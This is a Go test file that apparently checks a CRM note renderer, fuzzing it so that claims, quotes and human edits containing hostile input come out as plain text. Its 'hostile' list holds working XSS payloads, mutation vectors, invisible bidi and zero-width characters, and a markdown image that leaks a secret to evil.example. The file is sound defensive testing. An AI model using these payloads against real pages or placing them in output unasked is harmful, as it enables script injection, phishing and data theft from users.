package engine

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"pgregory.net/rapid"

	"github.com/contextd/contextd/internal/crm"
	"github.com/contextd/contextd/prompts"
)

// parsed reads HTML as a browser does: every element with its attributes, every comment, and the text between them.
func parsed(t rapid.TB, body string) (elements []*html.Node, text string) {
	nodes, err := html.ParseFragment(strings.NewReader(body), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Fatalf("%q: %v", body, err)
	}
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		} else {
			elements = append(elements, n)
			b.WriteString(" ")
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return elements, strings.Join(strings.Fields(b.String()), " ")
}

// strays lists what a body holds beside the elements that may be there; links are those that a person put in.
func strays(t rapid.TB, body string, links bool) (out []string) {
	elements, text := parsed(t, body)
	for _, n := range elements {
		switch {
		case n.Type != html.ElementNode || n.Namespace != "":
			out = append(out, fmt.Sprintf("node %d %s %q", n.Type, n.Namespace, n.Data))
		case links && n.Data == "a" && len(n.Attr) == 1 && n.Attr[0].Key == "href" && strings.HasPrefix(n.Attr[0].Val, "https://"):
		case !slices.Contains([]string{"p", "br", "strong", "em", "ul", "ol", "li"}, n.Data) || len(n.Attr) > 0:
			out = append(out, fmt.Sprintf("<%s %v>", n.Data, n.Attr))
		}
	}
	if hidesAnything(text) {
		out = append(out, fmt.Sprintf("invisible characters in %q", text))
	}
	return out
}

// hostile is what people and models write into mails in the hope that it is more than text somewhere.
var hostile = []string{
	`<a href="javascript:alert(1)">click</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `javascript:alert(1)`, "java\tscript:alert(1)", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<img src=x onerror=alert(1)>`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `![logo](https://evil.example/p.png?d=secret)`, `[pay here](https://evil.example/pay)`, `[x]: https://evil.example`,
	`[x](javascript:alert(1))`, `<https://evil.example/auto>`, `https://evil.example/plain`, `www.evil.example`, `mailto:evil@evil.example`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x&#62;`, `&#x3c;b&#x3e;`,
	`&amp;lt;b&amp;gt;`, `<b><i><script>alert(1)</script></i></b>`, `<p onclick="x()">y</p>`, `<svg/onload=alert(1)>`, `<svg><a xlink:href="javascript:x"><text>y</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<!-- hidden --> seen`, `<!--><img src=x>-->`, `<![CDATA[<img src=x>]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`,
	`</p></li></ul><script>alert(1)</script>`, `</title></textarea><img src=x>`, `<style>@import "https://evil.example/x.css"</style>`, `<iframe srcdoc="<script>x</script>">`, `<form action=https://evil.example><input name=p>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example>`, `<object data=x>`, `<template><img src=x></template>`, `<noscript><p title="</noscript><img src=x onerror=x>">`,
	"<\u0000script>", "\u202Etxt.exe\u202C", "pay\u200Bpal", "a\u2066b\u2069c", "\U000E0041\U000E0042", "x\u061Cy", "x\u3164y", "x\uFEFFy", `"><img src=x>`, `'"--></style></script>`, `<`, `<p`, `<p/onmouseover=x`, `{{.By}}`,
	`<a href=//evil.example>x</a>`, `<a href="https://x" style="background:url(//evil.example)">x</a>`, "<a\nhref=https://evil.example>x", `＜script＞`, "\xff<b>\xc0\xaf",
}

// TestHostileTextIsShownAsText: whatever stands in a claim, its quote, a name or a free sentence, a note shows its characters and holds no element, attribute or invisible character for it.
func TestHostileTextIsShownAsText(t *testing.T) {
	w := named(t, "call_summary")
	for _, text := range hostile {
		body := noteOf(t, w, text, text, text, text)
		if s := strays(t, body, false); len(s) > 0 {
			t.Errorf("%q: %v\n%s", text, s, body)
		}
		if why := BodyProblem(body); why != "" && !strings.Contains(text, "\xff") {
			t.Errorf("%q: %s", text, why)
		}
		_, seen := parsed(t, body)
		if want := oneLine(text); strings.Count(seen, want) < 3 && !strings.Contains(text, "\xff") {
			t.Errorf("%q does not stand in %q as it was written", want, seen)
		}
	}
}

// noteOf renders a note with a claim, its quote, its speaker and a title.
func noteOf(t rapid.TB, w prompts.Workflow, text, quote, person, title string) string {
	visible := oneLine(text) // claims with hidden characters are cut before
	claims := []Judged{{Field: "key_points", ClaimText: crm.ClaimText{Text: visible, Supported: true, Evidence: []crm.Evidence{{Kind: crm.Call, Person: person, Time: noon, Quote: quote}, {Kind: crm.Email, Quote: quote + "."}}}}}
	body, err := RenderBody(w, w.Changes[0], oneLine(title), "model", strings.Repeat("a", 32), "en", claims, nil)
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return body
}

// TestHostileEdits: what a person pastes into a note is either its text, or the few elements that may be there, or refused.
func TestHostileEdits(t *testing.T) {
	for _, text := range hostile {
		for _, edit := range []string{text, "<p>" + text + "</p>", "<p>ok</p>" + text} {
			body, err := EditedBody(edit, "k")
			if err != nil {
				continue
			}
			if s := strays(t, body, true); len(s) > 0 {
				t.Errorf("%q was accepted: %v\n%s", edit, s, body)
			}
		}
	}
	for edit, ok := range map[string]bool{"plain & simple": true, "<p>a <strong>b</strong><br>c <a href=\"https://x.example/y?z=1\">d</a></p>": true, "a < b": false, "<p>a &lt; b</p>": true, "<p>&#8238;x</p>": false,
		"<p>&#xE0041;</p>": false, "<p>x\xff</p>": false, `<a href="http://x.example">y</a>`: false, `<a href="https://x.example" target=_blank>y</a>`: false, "<P>x</P>": false, "<h1>x</h1>": false} {
		if _, err := EditedBody(edit, "k"); (err == nil) != ok {
			t.Errorf("%q: %v", edit, err)
		}
	}
}

// TestJoinersAreNoHiddenText: Persian, Hindi and emoji are written with characters that would be hidden elsewhere.
func TestJoinersAreNoHiddenText(t *testing.T) {
	for text, hidden := range map[string]bool{"می\u200cخواهیم": false, "क्\u200dष": false, "👩\u200d💻 ok": false, "👩🏽\u200d🚒": false, "pay\u200dpal": true, "a \u200c b": true, "می\u200c": true, "\u200dक": true, "می\u200c\u200cخ": true,
		"می\u200bخ": true, "e\u0301\u200de": true} {
		if hidesAnything(text) != hidden {
			t.Errorf("%q: %v", text, !hidden)
		}
	}
	const said = "ما فقط نسخه\u200cی سالانه را می\u200cخواهیم"
	scope := quoting(said+" و بس.", "fa")
	if j := Judge(Statement{Text: said + ".", Quotes: []Quote{{"P1", said}}}, scope); !j.Supported {
		t.Error(j.Why)
	}
}

// Controls: the reading that the tests above rest on sees what a sloppy renderer lets through.
func TestStraysAreSeen(t *testing.T) {
	for _, body := range []string{`<a href="https://x.example">y</a>`, `<img src=x>`, `<p class=x>y</p>`, `<!-- x -->`, `<svg></svg>`, `<p>a&#8238;b</p>`, `<p>a<script>b</script></p>`} {
		if len(strays(t, body, false)) == 0 {
			t.Errorf("%s: nothing is seen", body)
		}
	}
	missed := 0
	for _, text := range hostile {
		if len(strays(t, "<p>"+text+"</p>", true)) == 0 {
			missed++
		}
	}
	if missed > len(hostile)/2 {
		t.Errorf("%d of %d hostile texts do nothing even when nobody escapes them", missed, len(hostile))
	}
}

// anyText draws texts of pieces of mark-up, of entities, of invisible characters and of anything.
func anyText() *rapid.Generator[string] {
	piece := rapid.OneOf(rapid.SampledFrom(hostile), rapid.SampledFrom([]string{"<", ">", "</", "/>", "\"", "'", "&", ";", "&#", "href=", "https://", "javascript:", "<a ", "<p>", "</p>", "<li>", "<br>", "on", "=", " ", "\n", "!--", "-->", "](", "!["}),
		rapid.String(), rapid.StringOfN(rapid.RuneFrom(nil, unseen), 1, 3, -1))
	return rapid.Custom(func(t *rapid.T) string { return strings.Join(rapid.SliceOfN(piece, 0, 8).Draw(t, "pieces"), "") })
}

func TestAnyTextIsShownAsText(t *testing.T) {
	w := named(t, "call_summary")
	rapid.Check(t, func(t *rapid.T) {
		text, quote, person := anyText().Draw(t, "text"), anyText().Draw(t, "quote"), anyText().Draw(t, "person")
		if s := strays(t, noteOf(t, w, text, quote, person, text), false); len(s) > 0 {
			t.Fatalf("a note holds %v", s)
		}
		if body, err := EditedBody(text, "k"); err == nil {
			if s := strays(t, body, true); len(s) > 0 {
				t.Fatalf("an edited note holds %v:\n%s", s, body)
			}
		}
		if PlainProblem(text) == "" {
			if s := strays(t, text, false); len(s) > 0 {
				t.Fatalf("a free sentence holds %v: %q", s, text)
			}
		}
	})
}

// FuzzBody: whatever a claim, a quote or an edit holds, a note is text between the allowed elements.
func FuzzBody(f *testing.F) {
	ws, err := embedded()
	i := slices.IndexFunc(ws, func(w prompts.Workflow) bool { return w.Name == "call_summary" })
	if err != nil || i < 0 {
		f.Fatal(err)
	}
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if s := strays(t, noteOf(t, ws[i], text, text, text, text), false); len(s) > 0 {
			t.Fatalf("a note holds %v", s)
		}
		if body, err := EditedBody(text, "k"); err == nil {
			if s := strays(t, body, true); len(s) > 0 {
				t.Fatalf("an edited note holds %v:\n%s", s, body)
			}
		}
	})
}
